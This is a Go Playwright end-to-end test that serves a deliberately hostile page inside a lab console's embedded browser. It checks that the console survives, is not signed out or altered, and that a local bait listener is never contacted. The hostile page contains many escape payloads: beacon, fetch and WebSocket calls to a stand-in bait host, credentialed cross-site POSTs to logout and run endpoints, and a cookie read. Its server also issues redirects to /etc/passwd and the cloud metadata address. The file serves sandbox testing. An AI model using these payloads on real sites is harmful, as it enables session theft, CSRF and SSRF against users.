package e2e

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/playwright-community/playwright-go"
)

// hostile is a site that tries to get out of the frame. console is where the
// console is, bait a listener on this host that nothing may reach.
type hostile struct{ console, bait, instance string }

const hostilePage = `<!doctype html><html><head><title>evil</title>
<link rel="preconnect" href="http://BAIT/"><link rel="dns-prefetch" href="http://BAIT/"><link rel="prefetch" href="http://BAIT/prefetch">
<link rel="stylesheet" href="http://BAIT/style.css"><link rel="manifest" href="http://BAIT/manifest">
<style>@import url("http://BAIT/import.css"); body { background: url(http://BAIT/background) }</style>
</head><body onload="document.title='loaded'">
<h1>Hostile</h1><p id="log"></p>
<img src="http://BAIT/image"><img src="CONSOLE/logout"><img src="/logout"><img srcset="http://BAIT/set 1x">
<iframe src="CONSOLE/"></iframe><iframe src="http://BAIT/frame"></iframe><iframe src="/nested"></iframe>
<iframe srcdoc="<script>fetch('http://BAIT/srcdoc', {mode: 'no-cors'}); new Image().src = 'http://BAIT/srcdoc-image'</script>"></iframe>
<object data="http://BAIT/object"></object><embed src="http://BAIT/embed"><video src="http://BAIT/video"></video><audio src="http://BAIT/audio"></audio>
<a id="top" href="http://BAIT/top" target="_top">top</a><a id="blank" href="http://BAIT/blank" target="_blank">blank</a><a id="parent" href="CONSOLE/login" target="_parent">parent</a>
<a id="download" href="/download" download="x.bin">download</a><a id="js" href="javascript:top.location='http://BAIT/js'">js</a>
<form id="signout" method="post" action="CONSOLE/logout"><button>x</button></form>
<form id="stop" method="post" action="CONSOLEINSTANCE/run" target="_top"><input name="running" value="no"><button formaction="CONSOLEINSTANCE/delete">x</button></form>
<script>
const tried = [];
const attempt = (name, f) => { try { const r = f(); if (r && r.then) r.then(v => tried.push(name + ":" + v), e => tried.push(name + "!")); else tried.push(name + ":" + r); } catch (e) { tried.push(name + "!"); } };
attempt("top", () => top.document.body.innerHTML);
attempt("parent", () => parent.location.href);
attempt("topgo", () => { top.location = "http://BAIT/top-location"; });
attempt("parentgo", () => { parent.location.replace("http://BAIT/parent-location"); });
attempt("open", () => String(Window.prototype.open ? window.open : 0) && Reflect.apply(Object.getOwnPropertyDescriptor(window, "open").value, window, [""]));
attempt("worker", () => navigator.serviceWorker.register("/sw.js").then(() => "registered"));
attempt("sharedworker", () => { new SharedWorker("http://BAIT/worker"); });
attempt("alert", () => { alert("x"); confirm("x"); });
attempt("fullscreen", () => document.documentElement.requestFullscreen().then(() => "full"));
attempt("notify", () => Notification.requestPermission().then(String));
for (const how of ["include", "omit"]) for (const to of ["CONSOLE/", "CONSOLEINSTANCE", "http://BAIT/fetch", "/aliyun/eu-central-1"])
  attempt("fetch " + to + how, () => fetch(to, { credentials: how }).then(r => r.text()).then(t => t.includes("hx-sse" + ":connect") ? "READ" : "other"));
attempt("post", () => fetch("CONSOLEINSTANCE/run", { method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({ running: "no" }) }).then(() => "sent"));
attempt("beacon", () => navigator.sendBeacon("http://BAIT/beacon", "x"));
attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", "CONSOLE/"); x.withCredentials = true; x.onload = () => tried.push("xhr:" + x.responseText.includes("hx-sse" + ":connect")); x.send(); });
attempt("rtc", () => { const c = new RTCPeerConnection({ iceServers: [{ urls: "turn:BAIT?transport=tcp", username: "a", credential: "b" }] }); c.createDataChannel("x"); return c.createOffer().then(o => c.setLocalDescription(o)); });
attempt("ws", () => { new WebSocket("ws://BAIT/ws"); });
attempt("events", () => { new EventSource("http://BAIT/events"); });
// Without the page's script in the way: a fresh window has everything it took away.
attempt("fresh", () => { const f = document.createElement("iframe"); document.body.append(f); const w = f.contentWindow; return w.fetch("http://BAIT/fresh", { mode: "no-cors" }).then(() => "reached"); });
attempt("data", () => { const f = document.createElement("iframe"); HTMLElement.prototype.setAttribute; f.src = "data:text/html,<script>fetch('http://BAIT/data',{mode:'no-cors'});location='http://BAIT/data-location'</scr" + "ipt>"; document.body.append(f); });
attempt("blob", () => { const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(["<script>fetch('http://BAIT/blob',{mode:'no-cors'});fetch('CONSOLE/logout',{method:'POST',mode:'no-cors',credentials:'include'});navigator.sendBeacon('CONSOLEINSTANCE/run',new URLSearchParams({running:'no'}))</scr" + "ipt>"], { type: "text/html" })); document.body.append(f); });
attempt("link", () => { document.head.insertAdjacentHTML("beforeend", '<link rel="stylesheet" href="http://BAIT/late.css">'); });
attempt("base", () => { const b = document.createElement("base"); b.href = "http://BAIT/"; document.head.append(b); const i = new Image(); i.src = "through-base"; b.remove(); });
attempt("flood", () => { for (let i = 0; i < 2000; i++) { parent.postMessage({ i, url: "http://bank.example/" }, "*"); top.postMessage("x".repeat(100), "*"); } });
attempt("history", () => { for (let i = 0; i < 60; i++) history.pushState({}, "", "#" + i); });
attempt("click", () => { for (const [id, target] of [["top", "_top"], ["blank", "_blank"], ["parent", "_parent"]]) { const a = document.getElementById(id); a.target = target; a.click(); } });
attempt("cookie", () => document.cookie);
setTimeout(() => { document.getElementById("log").textContent = "tried " + tried.join(" | "); }, 1500);
</script></body></html>`

// ServeHTTP answers for the hostile site.
func (s *hostile) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	h := w.Header()
	fill := strings.NewReplacer("CONSOLEINSTANCE", s.console+s.instance, "CONSOLE", s.console, "BAIT", s.bait)
	h.Set("Set-Cookie", "culvert=stolen; Path=/; Domain=127.0.0.1")
	h.Set("X-Frame-Options", "ALLOWALL")
	h.Set("Access-Control-Allow-Origin", "*")
	h.Set("Access-Control-Allow-Credentials", "true")
	h.Set("Clear-Site-Data", `"cookies", "storage"`)
	h.Set("Service-Worker-Allowed", "/")
	h.Set("Refresh", fill.Replace("600; url=http://BAIT/refresh-header"))
	h.Set("Link", fill.Replace("<http://BAIT/link-header>; rel=preload; as=script, <http://BAIT>; rel=preconnect"))
	h.Set("Content-Type", "text/html; charset=utf-8")
	page := map[string]string{
		"/":          hostilePage,
		"/nested":    `<script>top.location = "http://BAIT/nested"; parent.postMessage("x", "*")</script>nested`,
		"/meta":      `<meta http-equiv="refresh" content="0; url=http://BAIT/meta">meta`,
		"/based":     `<base href="http://BAIT/"><img src="image"><a id="go" href="go">based</a><form action="send" id="f"><button>b</button></form>`,
		"/away":      `<p>away</p><script>location = "http://BAIT/location"</script>`,
		"/logoutnow": `<p>posts</p><script>HTMLFormElement.prototype.submit.call(Object.assign(document.body.appendChild(document.createElement("form")), {method: "post"}))</script>`,
	}[r.URL.Path]
	to := map[string]string{
		"/to-console": "CONSOLE/", "/to-logout": "CONSOLE/logout", "/to-file": "file:///etc/passwd", "/to-js": "javascript:alert(1)", "/to-host": "http://BAIT/redirect",
		"/to-meta": "http://169.254.169.254/latest/",
	}[r.URL.Path]
	switch {
	case page != "":
		_, _ = fmt.Fprint(w, fill.Replace(page))
	case to != "":
		h.Set("Location", fill.Replace(to))
		w.WriteHeader(http.StatusFound)
	case r.URL.Path == "/download":
		h.Set("Content-Type", "application/octet-stream")
		h.Set("Content-Disposition", `attachment; filename="x.bin"`)
		_, _ = fmt.Fprint(w, "x")
	case r.URL.Path == "/huge":
		chunk := []byte("<p>" + strings.Repeat("huge page ", 8000) + "</p>\n")
		for sent := 0; sent < 1<<30; sent += len(chunk) {
			if _, err := w.Write(chunk); err != nil {
				return
			}
		}
	case r.URL.Path == "/endless":
		endless(r.Context(), w)
	default:
		http.NotFound(w, r)
	}
}

// endless writes a little now and then until nobody listens.
func endless(ctx context.Context, w http.ResponseWriter) {
	tick := time.NewTicker(100 * time.Millisecond)
	defer tick.Stop()
	for {
		if _, err := fmt.Fprint(w, "<p>endless</p>", strings.Repeat(" ", 2000)); err != nil {
			return
		}
		_ = http.NewResponseController(w).Flush()
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
	}
}

// bait is a listener on this host that counts who says anything to it.
// Chromium opens a connection as soon as a frame wants to go somewhere and
// closes it unused when the policy then forbids it: that is no request.
func bait(t *testing.T) (string, *atomic.Int64) {
	t.Helper()
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var caught atomic.Int64
	var all sync.WaitGroup
	all.Go(func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			all.Go(func() {
				defer c.Close()
				_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
				said := make([]byte, 300)
				if n, _ := c.Read(said); n > 0 {
					caught.Add(1)
					t.Logf("the bait heard %q", said[:n])
				}
			})
		}
	})
	t.Cleanup(func() {
		_ = l.Close()
		all.Wait()
	})
	return l.Addr().String(), &caught
}

// lastEvent is the number of the last change of the lab.
var changesSince = regexp.MustCompile(`data-since="(\d+)"`)

func (p *page) lastEvent() string {
	p.t.Helper()
	res, err := p.Context().Request().Get(p.Lab.url + console)
	if err != nil {
		p.t.Fatal(err)
	}
	body, err := res.Text()
	if err != nil {
		p.t.Fatal(err)
	}
	found := changesSince.FindStringSubmatch(body)
	if found == nil {
		p.t.Fatalf("the overview names no last change: %d %s", res.Status(), res.URL())
	}
	return found[1]
}

// A hostile page in the frame harms nothing: the console stays where it is,
// signed in and unchanged, and nothing on this host is reached.
func TestBrowserHostile(t *testing.T) {
	t.Parallel()
	p, at := built(t, reader{Lang: "en", Hostile: true})
	address, caught := bait(t)
	evil := &hostile{console: p.Lab.url, bait: address}
	p.serveOn(evil, "ECS2", "ECS3")
	ecs1 := p.instance("ECS1")
	here := strings.SplitN(p.URL(), "?", 2)[0]
	evil.instance = strings.TrimPrefix(here, p.Lab.url)
	home := "http://" + at.domain + "/"
	ecs1.until("reach the site", func() bool { return strings.Contains(ecs1.run("curl -s "+home), "Hostile") })
	before := p.lastEvent()
	p.OnDialog(func(d playwright.Dialog) { t.Errorf("the page opened a dialog: %s", d.Message()); _ = d.Dismiss() })
	p.OnDownload(func(d playwright.Download) { t.Errorf("the page downloaded %s", d.SuggestedFilename()) })
	p.Context().OnPage(func(n playwright.Page) { t.Errorf("the page opened a window: %s", n.URL()) })

	whole := func(after string) {
		t.Helper()
		if got := strings.SplitN(p.URL(), "?", 2)[0]; got != here {
			t.Fatalf("after %s the console is at %s", after, got)
		}
		if n := caught.Load(); n != 0 {
			t.Fatalf("after %s the bait was reached %d times", after, n)
		}
		if now := p.lastEvent(); now != before {
			t.Fatalf("after %s the lab has changed: event %s, before %s", after, now, before)
		}
		ecs1.heading("ECS1", "ECS1")
	}
	ecs1.surf(home)
	ecs1.shows("tried ")
	said, err := ecs1.screen().Locator("#log").InnerText()
	if err != nil {
		t.Fatal(err)
	}
	t.Log(said)
	for _, bad := range []string{"READ", "registered", ":full", "reached", "xhr:true", "top:", "parent:"} {
		if strings.Contains(said, bad) {
			t.Errorf("the page says %q: %s", bad, said)
		}
	}
	whole("the scripts")
	for _, id := range []string{"signout", "stop"} {
		ecs1.surf(home)
		ecs1.shows("tried ")
		if err := ecs1.screen().Locator("#" + id + " button").Click(); err != nil {
			t.Fatal(err)
		}
		ecs1.shows("Refused:")
		whole("the form " + id)
	}
	for path, shows := range map[string]string{
		"meta": "Refused:", "to-console": "Refused:", "to-logout": "Refused:", "to-file": "Not an address", "to-js": "Not an address", "to-host": "Refused:", "to-meta": "Refused:",
		"download": "This is a file",
	} {
		ecs1.surf(home + path)
		ecs1.shows(shows)
		whole("/" + path)
	}
	ecs1.surf(home + "based")
	if err := ecs1.screen().Locator("#go").Click(); err != nil {
		t.Fatal(err)
	}
	ecs1.shows("Refused:")
	whole("a page with a base")
	ecs1.surf(home + "huge")
	ecs1.foot("The page is too large")
	whole("a page of 1 GB")
	ecs1.surf(home + "endless")
	ecs1.shows("endless")
	whole("a page without an end")
	ecs1.surf(home + "away")
	ecs1.until("note the visit", func() bool { got, _ := ecs1.field("Address").InputValue(); return got == home+"away" })
	whole("a page that sends itself away")
	p.home()
	if n := caught.Load(); n != 0 {
		t.Errorf("the bait was reached %d times", n)
	}
}
